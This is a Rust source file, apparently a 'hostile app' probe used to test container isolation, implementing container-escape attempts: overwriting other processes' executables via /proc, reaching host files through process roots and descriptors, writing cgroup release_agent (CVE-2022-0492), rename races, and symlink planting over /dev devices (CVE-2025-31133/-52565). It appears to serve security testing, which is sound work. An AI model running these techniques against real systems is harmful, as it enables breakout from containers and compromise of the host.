//! What a hostile app tries.

use std::collections::{BTreeMap, BTreeSet};
use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::Path;

use nix::sys::statvfs::{FsFlags, fstatvfs};

/// What the attack writes over a program.
const MARK: &[u8] = b"#!/hijacked\n";

/// Watches for processes, opens the program of each, and tries to open that for writing until it works (a program that
/// runs is busy) or never can.
pub fn hijack(path: &str) -> std::io::Result<()> {
    let mut log = OpenOptions::new().create(true).append(true).open(path)?;
    let stop = format!("{path}.stop");
    let mine = std::process::id();
    let mut seen = BTreeSet::from([1, mine]);
    let mut held: BTreeMap<u32, (String, File)> = BTreeMap::new();
    let mut last = mine;
    writeln!(log, "ready")?;
    while !Path::new(&stop).exists() {
        // Faster than a list of /proc: the numbers of new processes follow on each other, and the newest is told.
        let load = std::fs::read_to_string("/proc/loadavg")?;
        let newest = load.split_whitespace().last().and_then(|word| word.parse().ok()).unwrap_or(last);
        for pid in newest.saturating_sub(8)..=newest {
            if seen.contains(&pid) {
                continue;
            }
            let Ok(program) = File::open(format!("/proc/{pid}/exe")) else { continue };
            let name = std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let name = name.split('\0').next().unwrap_or_default();
            let name = name.rsplit('/').next().unwrap_or_default().to_owned();
            let flags = fstatvfs(&program)?.flags();
            let how = if flags.contains(FsFlags::ST_RDONLY) { "read-only" } else { "writable" };
            writeln!(log, "opened {name} {how}")?;
            seen.insert(pid);
            last = newest;
            // Of its neighbours' programs an app with this capability is the master anyway.
            if name != "probe" {
                held.insert(pid, (name, program));
            }
        }
        held.retain(|_, (name, program)| {
            let again = format!("/proc/self/fd/{}", program.as_raw_fd());
            match OpenOptions::new().write(true).open(again).and_then(|mut file| file.write_all(MARK)) {
                Ok(()) => writeln!(log, "wrote {name}").is_err(),
                Err(error) if error.raw_os_error() == Some(nix::libc::ETXTBSY) => true,
                Err(error) => writeln!(log, "refused {name} {error}").is_err(),
            }
        });
    }
    Ok(())
}

/// Watches for processes and tries to get at the host through what each has of it: its root, its working directory, its
/// descriptors. `marker` is a file of the host's that the pod does not have.
pub fn peek(path: &str, marker: &str) -> std::io::Result<()> {
    let mut log = OpenOptions::new().create(true).append(true).open(path)?;
    let stop = format!("{path}.stop");
    let up = "/..".repeat(16);
    let mut said = BTreeSet::new();
    let mut say = |words: String| if said.insert(words.clone()) { writeln!(log, "{words}") } else { Ok(()) };
    say("ready".to_owned())?;
    let mut rounds = 0_u32;
    while !rounds.is_multiple_of(1024) || !Path::new(&stop).exists() {
        rounds = rounds.wrapping_add(1);
        let load = std::fs::read_to_string("/proc/loadavg")?;
        let newest: u32 = load.split_whitespace().last().and_then(|word| word.parse().ok()).unwrap_or_default();
        // The next one may be there by now.
        for pid in newest..newest + 3 {
            let at = |place: &str| format!("/proc/{pid}/{place}");
            if File::open(at(&format!("root{marker}"))).is_ok() {
                say(format!("host by the root of {pid}"))?;
            }
            let name = || {
                let words = std::fs::read_to_string(at("cmdline")).unwrap_or_default();
                let words = words.split('\0').next().unwrap_or_default();
                words.rsplit('/').next().unwrap_or_default().to_owned()
            };
            let before = name();
            if before.is_empty() || before == "probe" {
                continue;
            }
            if File::open(at(&format!("cwd{up}{marker}"))).is_ok() {
                say(format!("host by the working directory of {before} {pid}"))?;
            }
            let mut links = Vec::new();
            for fd in std::fs::read_dir(at("fd")).into_iter().flatten().flatten() {
                let number = fd.file_name().to_string_lossy().into_owned();
                if File::open(at(&format!("fd/{number}{up}{marker}"))).is_ok() {
                    say(format!("host by the descriptor {number} of {before} {pid}"))?;
                }
                links.extend(std::fs::read_link(fd.path()).map(|link| format!("{number} {}", link.display())));
            }
            let stat = std::fs::read_to_string(at("stat")).unwrap_or_default();
            // The terminal is the fifth field after the name.
            let terminal = stat.rsplit_once(')').and_then(|(_, rest)| rest.split_whitespace().nth(4));
            let status = std::fs::read_to_string(at("status")).unwrap_or_default();
            let permitted = status.lines().find_map(|line| line.strip_prefix("CapPrm:\t"));
            // It may have become another program meanwhile.
            if name() == before {
                permitted.map_or(Ok(()), |set| say(format!("capabilities of {before} {set}")))?;
                if terminal.is_some_and(|number| number != "0") {
                    say(format!("host by the terminal of {before} {pid}"))?;
                }
                say(format!("seen {before} {pid}"))?;
                links.into_iter().try_for_each(|link| say(format!("descriptor of {before} {pid}: {link}")))?;
            }
        }
    }
    Ok(())
}

/// Exchanges two names over and over: renameat2(2).
pub fn exchange(a: &str, b: &str, stop: &str) -> std::io::Result<()> {
    while !Path::new(stop).exists() {
        for _ in 0..1000 {
            rustix::fs::renameat_with(rustix::fs::CWD, a, rustix::fs::CWD, b, rustix::fs::RenameFlags::EXCHANGE)?;
        }
    }
    Ok(())
}

/// CVE-2022-0492: tries every way to a `release_agent`, which the kernel would run as the host's root. Says how far each
/// has come; where it could be written to, what was there is written again.
pub fn release_agent() -> std::io::Result<Vec<String>> {
    let mut found: Vec<String> = ["/sys/fs/cgroup", "/proc/1/root/sys/fs/cgroup"]
        .iter()
        .flat_map(|dir| std::fs::read_dir(dir).into_iter().flatten().flatten())
        .map(|entry| entry.path().join("release_agent"))
        .filter_map(|file| agent(&file).map(|how| format!("{how} {}", file.display())))
        .collect();
    for way in ["here", "unshared"] {
        let out = std::process::Command::new("/probe").args(["mount-cgroups", way]).output()?;
        let lines = String::from_utf8_lossy(&out.stdout).into_owned();
        found.extend(lines.lines().filter(|line| !line.is_empty()).map(|line| format!("{line} {way}")));
    }
    Ok(found)
}

/// Mounts every hierarchy of cgroups, and a new one, in namespaces of its own or not, and looks for their agents.
pub fn mount_cgroups(way: &str) -> Vec<String> {
    use nix::mount::{MsFlags, mount, umount};
    use nix::sched::{CloneFlags, unshare};

    let cgroups = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    let mut hierarchies: Vec<&str> = cgroups.lines().filter_map(|line| line.split(':').nth(1)).collect();
    hierarchies.push("none,name=escape");
    if way == "unshared" {
        let namespaces = CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWCGROUP;
        if unshare(namespaces).is_err() {
            return Vec::new();
        }
    }
    let mut found = Vec::new();
    for hierarchy in hierarchies.into_iter().filter(|name| !name.is_empty()) {
        let at = Path::new("/tmp");
        if mount(Some("cgroup"), at, Some("cgroup"), MsFlags::empty(), Some(hierarchy)).is_ok() {
            found.push(format!("{} {hierarchy}", agent(&at.join("release_agent")).unwrap_or("mounted")));
            found.extend(umount(at).err().map(|errno| format!("umount: {errno}")));
        }
    }
    found
}

/// Whether a `release_agent` can be written to.
fn agent(file: &Path) -> Option<&'static str> {
    let now = std::fs::read_to_string(file).ok()?;
    let mut file = OpenOptions::new().write(true).open(file).ok()?;
    Some(if file.write_all(now.as_bytes()).is_ok() { "wrote" } else { "opened" })
}

/// CVE-2025-31133 and -52565: puts links to `target` in the place of all that masks and consoles are made of, in the pod
/// and in every process that appears.
pub fn plant(target: &str, stop: &str) -> std::io::Result<()> {
    let root_of = |pid: &str| {
        let stat = std::fs::metadata(format!("/proc/{pid}/root")).ok()?;
        Some((std::os::unix::fs::MetadataExt::dev(&stat), std::os::unix::fs::MetadataExt::ino(&stat)))
    };
    let pods = root_of("1");
    let mut planted = 0_u32;
    while !Path::new(stop).exists() {
        let load = std::fs::read_to_string("/proc/loadavg")?;
        let newest: u32 = load.split_whitespace().last().and_then(|word| word.parse().ok()).unwrap_or_default();
        let pod = ["/proc/1/root/run/stage1/mask-file".to_owned()];
        // Without the pod's own devices nothing would be started any more.
        let new = (newest..newest + 3)
            .filter(|pid| root_of(&pid.to_string()).is_some_and(|root| Some(root) != pods))
            .flat_map(|pid| ["null", "console", "pts"].map(|name| format!("/proc/{pid}/root/dev/{name}")));
        for place in pod.into_iter().chain(new) {
            if std::fs::read_link(&place).is_ok() || std::fs::remove_file(&place).is_err() {
                continue;
            }
            planted += u32::from(std::os::unix::fs::symlink(target, &place).is_ok());
            if planted == 1 {
                std::fs::write(format!("{stop}.planted"), place)?;
            }
        }
    }
    Ok(())
}
